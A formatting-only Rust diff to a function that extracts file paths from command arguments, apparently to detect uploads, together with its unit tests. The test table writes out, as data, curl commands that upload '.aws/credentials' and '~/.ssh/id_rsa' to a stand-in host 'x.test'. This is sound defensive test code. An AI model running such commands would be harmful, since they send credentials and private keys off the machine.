@@ -32,7 +32,9 @@ fn spellings(arg: &str) -> impl Iterator<Item = &str> {
     let value = arg.split_once('=').map(|(_, value)| value.trim_start_matches(['@', '<']));
     let value = value.map(|value| value.strip_prefix("file://").unwrap_or(value));
     let value = value.map(|value| value.split_once(';').map_or(value, |(path, _)| path));
-    let plausible = |path: &&str| !path.is_empty() && path.len() <= 4096 && !path.starts_with('-') && !path.contains("://");
+    let plausible = |path: &&str| {
+        !path.is_empty() && path.len() <= 4096 && !path.starts_with('-') && !path.contains("://")
+    };
     [Some(whole), after_at, value].into_iter().flatten().filter(plausible)
 }
 
@@ -55,7 +57,10 @@ mod tests {
     fn finds_paths_in_the_usual_upload_forms() {
         let table: [(&[&str], &str); 6] = [
             (&["curl", "-T", ".aws/credentials", "https://x.test/"], "/Users/a/.aws/credentials"),
-            (&["curl", "-F", "file=@/Users/a/.ssh/id_rsa;type=text/plain", "https://x.test/"], "/Users/a/.ssh/id_rsa"),
+            (
+                &["curl", "-F", "file=@/Users/a/.ssh/id_rsa;type=text/plain", "https://x.test/"],
+                "/Users/a/.ssh/id_rsa",
+            ),
             (&["curl", "--data-binary", "@/tmp/x", "https://x.test/"], "/tmp/x"),
             (&["aws", "s3api", "put-object", "--body=./x"], "/Users/a/x"),
             (&["dd", "if=/Users/a/x"], "/Users/a/x"),
@@ -68,6 +73,9 @@ mod tests {
 
     #[test]
     fn urls_and_options_are_no_paths() {
-        assert_eq!(named(&["curl", "--silent", "https://content.dropboxapi.com/2/files/upload"]), [] as [&str; 0]);
+        assert_eq!(
+            named(&["curl", "--silent", "https://content.dropboxapi.com/2/files/upload"]),
+            [] as [&str; 0]
+        );
     }
 }
